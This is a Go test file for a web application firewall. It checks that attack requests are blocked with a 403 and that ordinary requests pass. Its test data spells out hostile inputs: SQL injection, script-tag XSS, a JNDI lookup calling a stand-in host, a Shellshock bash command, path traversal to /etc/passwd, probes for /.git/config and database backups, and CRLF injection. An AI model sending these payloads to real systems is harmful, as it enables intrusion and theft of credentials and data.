package waf_test

import (
	"strings"
	"testing"

	"weir/http7"
)

func TestAttacksOfEveryClassAreStopped(t *testing.T) {
	s := step(t, nil)
	all := attacks()
	if len(all) < 200 {
		t.Fatalf("%d attacks, want 200 at least", len(all))
	}
	stopped := map[string]int{}
	for i, a := range all {
		if i%every != 0 {
			continue
		}
		x := exchange(a.request)
		f := ask(s, x, a.body)
		if f == nil || f.Status != 403 || f.Side != http7.Client {
			t.Errorf("%s in %s passes: %s %s\n\t%v %v", a.class, a.where, a.target, a.body, f, x.Verdicts)
			continue
		}
		stopped[a.class]++
	}
	if len(stopped) != 5 {
		t.Errorf("classes %v, want 5", stopped)
	}
}

func TestOrdinaryRequestsPass(t *testing.T) {
	s := step(t, nil)
	for i, r := range benign(2000) {
		if i/len(kinds)%every != 0 {
			continue
		}
		x := exchange(r)
		if f := ask(s, x, r.body); f != nil || len(x.Verdicts) > 0 {
			t.Errorf("%d: %s %s %s\n\t%s: %v, %s", i, r.method, r.target, r.contentType, r.body, f, strings.Join(x.Verdicts, "; "))
		}
	}
}

func TestAttacksInTheHeadAreStopped(t *testing.T) {
	s := step(t, nil)
	for _, c := range []struct {
		where string
		request
	}{
		{"a cookie", request{method: "GET", target: "/", fields: []string{"Cookie", "sid=1; q=1' UNION SELECT password FROM users-- -"}}},
		{"a cookie's name", request{method: "GET", target: "/", fields: []string{"Cookie", "<script>alert(1)</script>=1"}}},
		{"User-Agent", request{method: "GET", target: "/", fields: []string{"User-Agent", "${jndi:ldap://evil.example/a}"}}},
		{"User-Agent, of a shell", request{method: "GET", target: "/", fields: []string{"User-Agent", "() { :; }; /bin/bash -c id"}}},
		{"Referer", request{method: "GET", target: "/", fields: []string{"Referer", "https://a.example/?q=<script>alert(1)</script>"}}},
		{"the path", request{method: "GET", target: "/static/..%2f..%2f..%2fetc%2fpasswd"}},
		{"the path, in the open", request{method: "GET", target: "/cgi-bin/../../../../etc/passwd"}},
		{"a file that is nobody's business", request{method: "GET", target: "/.git/config"}},
		{"another one", request{method: "GET", target: "/backup/db.sql"}},
		{"a parameter's name", request{method: "GET", target: "/?1'+UNION+SELECT+password+FROM+users--=1"}},
		{"an override of the method", request{method: "POST", target: "/", fields: []string{"X-HTTP-Method-Override", "DELETE"}}},
		{"a method that is none", request{method: "FOO", target: "/"}},
		{"a line in a parameter", request{method: "GET", target: "/?next=%0d%0aSet-Cookie:%20a=b"}},
		{"a parameter, coded twice", request{method: "GET", target: "/?q=%253Cscript%253Ealert(1)%253C/script%253E"}},
		{"a parameter, in full width", request{method: "GET", target: "/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"}},
	} {
		x := exchange(c.request)
		if f := ask(s, x, ""); f == nil || f.Status != 403 {
			t.Errorf("%s: %v, %v", c.where, f, x.Verdicts)
		}
	}
}
